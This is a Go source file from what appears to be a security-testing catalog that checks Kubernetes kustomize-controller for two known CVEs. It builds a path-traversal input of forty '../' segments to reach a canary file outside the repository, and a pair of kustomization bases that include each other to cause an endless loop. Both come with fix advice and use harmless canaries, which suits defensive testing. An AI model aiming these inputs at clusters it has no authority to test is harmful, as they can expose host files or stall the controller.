package catalog

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

func addPathTraversal(register func(...Attack)) {
	canary := func(e *Scenario) *unstructured.Unstructured { return configMap(e.Namespace, name("s8")) }
	attack := Attack{
		ID: "S8", Via: Git,
		Kinds:      []string{"Kustomization"},
		Title:      "reads the controller's files with a path that leads out of its repository",
		Controls:   []string{"paths kept within the artifact"},
		References: []string{"CVE-2022-24877"},
		Fix:        Fix{Advice: "run a supported version of kustomize-controller: v0.24.0 and later have the fix"},
		Deep:       true,
	}
	attack.Files = func(e *Scenario) map[string]string {
		return map[string]string{
			"aimed/kustomization.yaml": kustomizationFile(traversalPath(outsideFile(e))),
			"own/kustomization.yaml":   kustomizationFile("canary.yaml"),
			"own/canary.yaml":          manifest(e.asCustomary(canary(e))),
		}
	}
	attack.Run = func(ctx context.Context, e *Scenario) Finding {
		e, err := e.delivering(ctx)
		if err != nil {
			return notProven(firstLine(err.Error()))
		}
		remove, err := writeOutsideFile(outsideFile(e), manifest(e.asCustomary(canary(e))))
		defer remove()
		if err != nil {
			return notProven(err.Error())
		}
		return e.reconciles(ctx, attack.Key(), canary(e), canary(e), e.asItSyncs)
	}
	register(attack)

	loop := Attack{
		ID: "S8", Via: Git, Kind: "loop",
		Kinds:      []string{"Kustomization"},
		Title:      "keeps the controller in an endless loop with bases that include each other",
		Controls:   []string{"detection of cycles"},
		References: []string{"CVE-2022-24878"},
		Fix:        Fix{Advice: "run a supported version of kustomize-controller: v0.24.0 and later have the fix"},
		Deep:       true,
	}
	looped := func(e *Scenario) *unstructured.Unstructured { return configMap(e.Namespace, name("s8-loop")) }
	loop.Files = func(e *Scenario) map[string]string {
		return map[string]string{
			"aimed/kustomization.yaml":      kustomizationFile("canary.yaml", "../aimed-back"),
			"aimed/canary.yaml":             manifest(e.asCustomary(looped(e))),
			"aimed-back/kustomization.yaml": kustomizationFile("../aimed"),
			"own/kustomization.yaml":        kustomizationFile("canary.yaml"),
			"own/canary.yaml":               manifest(e.asCustomary(looped(e))),
		}
	}
	loop.Run = func(ctx context.Context, e *Scenario) Finding {
		e, err := e.delivering(ctx)
		if err != nil {
			return notProven(firstLine(err.Error()))
		}
		return e.reconciles(ctx, loop.Key(), looped(e), looped(e), e.asItSyncs)
	}
	register(loop)
}

// outsideDir is a folder of this machine with an unguessable name, outside of all artifacts.
var outsideDir = sync.OnceValue(func() string {
	return filepath.Join(os.TempDir(), "tenure-attack-"+strings.ToLower(rand.Text()))
})

// outsideFile returns the path of the canary for an attack in a namespace. The path depends on the cluster:
// one process may attack several clusters.
func outsideFile(e *Scenario) string {
	cluster := ""
	if e.config != nil {
		cluster = e.config.Host
	}
	return filepath.Join(outsideDir(), fmt.Sprintf("%x", sha256.Sum256([]byte(cluster+" "+e.Namespace))), "canary.yaml")
}

// writeOutsideFile writes the canary, and returns a function that removes it, and an error if it cannot
// write the file. The function is never nil.
func writeOutsideFile(file, content string) (func(), error) {
	remove := func() {
		_ = os.RemoveAll(filepath.Dir(file))
		_ = os.Remove(outsideDir()) // succeeds when the folder is empty
	}
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		return remove, fmt.Errorf("cannot make the folder of the canary: %w", err)
	}
	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
		return remove, fmt.Errorf("cannot write the canary: %w", err)
	}
	return remove, nil
}

// parentFolders is larger than the number of folders above an unpacked artifact.
const parentFolders = 40

// traversalPath returns a path that leads from any folder of an artifact to a file of this machine.
func traversalPath(file string) string {
	return strings.Repeat("../", parentFolders) + strings.TrimPrefix(filepath.ToSlash(file), "/")
}
